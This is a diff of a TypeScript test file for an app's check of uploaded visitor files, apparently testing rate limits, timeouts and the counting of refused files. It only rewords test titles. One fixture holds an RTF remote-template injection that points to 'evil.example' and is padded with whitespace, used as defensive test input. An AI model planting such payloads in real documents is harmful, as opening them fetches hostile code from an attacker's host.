@@ -9,7 +9,7 @@ import { onEachEngine } from '../../../test/support/engines.ts';
 const CROWD = '192.0.2.1';
 const OTHER = '192.0.2.2';
 
-onEachEngine('the check of what visitors send', ({ makeContext }) => {
+onEachEngine("the check of visitors' files", ({ makeContext }) => {
   async function open() {
     const { request } = openApp(await makeContext({ config: { trustProxy: true, rateLimit: true } }));
     return (visitor: string, params: object) =>
@@ -20,7 +20,7 @@ onEachEngine('the check of what visitors send', ({ makeContext }) => {
       });
   }
 
-  test('of many applications from one address neither delays nor refuses that of somebody else', async () => {
+  test('of many applications from one address neither delays nor refuses another visitor', async () => {
     const apply = await open();
     const order: string[] = [];
     const note = async (visitor: string, firstName: string) => {
@@ -34,7 +34,7 @@ onEachEngine('the check of what visitors send', ({ makeContext }) => {
     expect(answered.indexOf(`${OTHER} 200`)).toBeLessThan(answered.length / 2);
   });
 
-  test('is tried again later where the machine is too slow, and its files do not count', async () => {
+  test('that times out is answered with 503, and its files do not count towards the limit', async () => {
     const apply = await open();
     const timeout = AbortSignal.timeout.bind(AbortSignal);
     // The limit of five seconds has passed before the thread has started.
@@ -49,7 +49,7 @@ onEachEngine('the check of what visitors send', ({ makeContext }) => {
     expect((await apply(CROWD, { attachments })).status).toBe(200);
   });
 
-  test('that takes too long again and again counts as refused forms, so that nobody keeps it busy', async () => {
+  test('that times out repeatedly counts towards the limit of refused forms', async () => {
     const apply = await open();
     const timeout = AbortSignal.timeout.bind(AbortSignal);
     const slow = vi.spyOn(AbortSignal, 'timeout').mockImplementation((ms) => timeout(ms === 5000 ? 1 : ms));
@@ -60,7 +60,7 @@ onEachEngine('the check of what visitors send', ({ makeContext }) => {
     expect((await apply(OTHER, {})).status).toBe(200);
   });
 
-  test('counts as sent files, also if they are refused', async () => {
+  test('counts refused files towards the limit of sent files', async () => {
     const apply = await open();
     const fetching = rtf(`{\\*\\template https://evil.example/a.dotm}${' '.repeat(4_900_000)}`);
     const attachments = [1, 2].map((n) => ({ filename: `${n}.rtf`, content: base64(fetching), type: '' }));
